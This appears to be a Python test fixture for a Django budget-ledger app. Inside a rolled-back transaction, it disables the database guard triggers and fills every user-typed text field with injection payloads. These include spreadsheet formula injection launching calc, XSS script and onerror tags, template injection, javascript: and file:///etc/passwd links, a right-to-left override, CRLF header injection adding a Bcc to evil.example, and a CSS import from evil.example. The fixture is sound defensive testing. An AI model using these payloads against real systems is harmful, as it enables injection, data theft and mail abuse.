"""A ledger in which every text that people can write is an attack: markup, a template, a formula, a turned line."""

from datetime import date
from typing import Any, Final

from django.apps import apps
from django.db import models, transaction

from ledger.enums import FileFormat, MilestoneKind
from ledger.guards import triggers
from ledger.models import (
    Amendment,
    AuditEntry,
    Block,
    Chapter,
    Document,
    DocumentVersion,
    Line,
    Milestone,
    Mutation,
    NeutralGroup,
    PublishedFigure,
    PublishedText,
    Risk,
    SealedFile,
    Theme,
)

SHORT: Final = "=<b>\"'&\u202e"
LONG: Final = (
    "=cmd|' /C calc'!A0 <script>alert(1)</script> \"><img src=x onerror=alert(1)> {{7*7}}{% now %} "
    "[x](javascript:alert(1)) ![x](file:///etc/passwd) \u202e"
)
LINES: Final = f"{LONG}\r\nBcc: x@evil.example\r\n\r\n<style>@import url(http://evil.example/)</style>"
_NOT_WRITTEN: Final = frozenset(
    {
        "username", "password", "digest", "head", "fingerprint", "content_type", "path", "agreement",
        "statement", "unit", "row_key", "column_key", "row_role", "through",
    }
)  # fmt: skip
_WORKED_OUT: Final = frozenset({"AuditEntry", "FormToken", "DocumentVersion", "LoginAttempt"})
_BLOCKS: Final[tuple[tuple[str, str, dict[str, Any]], ...]] = (
    ("text", LINES, {}),
    ("priority", "", {"title": LONG, "focus": ["kosten"], "goal": LONG, "action": LINES, "progress": LONG}),
    ("follow-up", "", {"title": LONG, "recommendation": LINES, "follow_up": LONG}),
    ("risks", "", {}),
    ("notes", "", {"programme": "burger"}),
    ("late", "", {}),
    ("table", "", {"statement": "contributions", "note": LONG}),
    ("table", "", {"statement": "maatwerk", "note": LONG}),
)


def poison() -> set[str]:
    """Write an attack in every text of every row, past the journal and the guards; return the fields without a row."""
    if not transaction.get_connection().in_atomic_block:
        raise RuntimeError("only inside a transaction that is rolled back")
    triggers.uninstall()
    _fill_up()
    untouched = set()
    for model in apps.get_app_config("ledger").get_models():
        rows = list(model._default_manager.all())
        for field in _texts(model):
            for row in rows:
                model._default_manager.filter(pk=row.pk).update(**{field.name: _attack(field, row.pk)})
            if not rows:
                untouched.add(f"{model.__name__}.{field.name}")
    for entry in AuditEntry.objects.all():
        AuditEntry.objects.filter(pk=entry.pk).update(payload=_deep(entry.payload))
    chapter = Chapter.objects.get(document__slug="bericht")
    for position, (kind, text, content) in enumerate(_BLOCKS, 10):
        Block.objects.create(chapter=chapter, kind=kind, text=text, content=content, position=position)
    triggers.install()
    return untouched


def _fill_up() -> None:
    """Add a row of what the ledger of these tests has none of."""
    draft, bericht = Amendment.objects.get(number=2), Document.objects.get(slug="bericht")
    year, version = draft.budget_year, DocumentVersion.objects.earliest("pk")
    group = NeutralGroup.objects.create(amendment=draft, code="schuif", name="x")
    theme = Theme.objects.create(code="thema", name="x", position=1)
    Mutation.objects.filter(code="eigen").update(group=group)
    Mutation.objects.update(theme=theme)
    Line.objects.update(theme=theme)
    Milestone.objects.create(document=bericht, kind=MilestoneKind.SEND, on=date(year.pk, 5, 1), note="x")
    Risk.objects.create(budget_year=year, position=1, description="x", likelihood="x", impact="x", measure="x")
    SealedFile.objects.create(version=version, format=FileFormat.PDF, name="x", digest="0" * 64, data=b"x")
    PublishedText.objects.create(budget_year=year, paragraph="x", position=1, title="x", text="x")
    PublishedFigure.objects.create(
        budget_year=year, through=0, paragraph="x", statement="contributions", part="x", unit="EUR", position=1,
        row_key="total", row_label="x", row_role="total", column_label="x", printed="x",
    )  # fmt: skip


def _texts(model: type[models.Model]) -> "list[models.Field[Any, Any]]":
    """The fields that hold what somebody typed: no choices, codes, marks or secrets of our own."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.EmailField)
        and not field.choices
        and field.name not in _NOT_WRITTEN
        and model.__name__ not in _WORKED_OUT
    ]


def _attack(field: "models.Field[Any, Any]", pk: object) -> str:
    """As much of the attack as fits, and different in every row: some are unique."""
    if field.max_length is None:
        return f"{LINES} {pk}"
    return f"{LONG} {pk}" if len(LONG) + 12 <= field.max_length else f"{SHORT}{pk}"


def _deep(value: Any) -> Any:
    """Replace sentences: a text without a space is a code, a date or a mark."""
    if isinstance(value, dict):
        return {name: _deep(each) for name, each in value.items()}
    if isinstance(value, list):
        return [_deep(each) for each in value]
    return LONG if isinstance(value, str) and " " in value else value
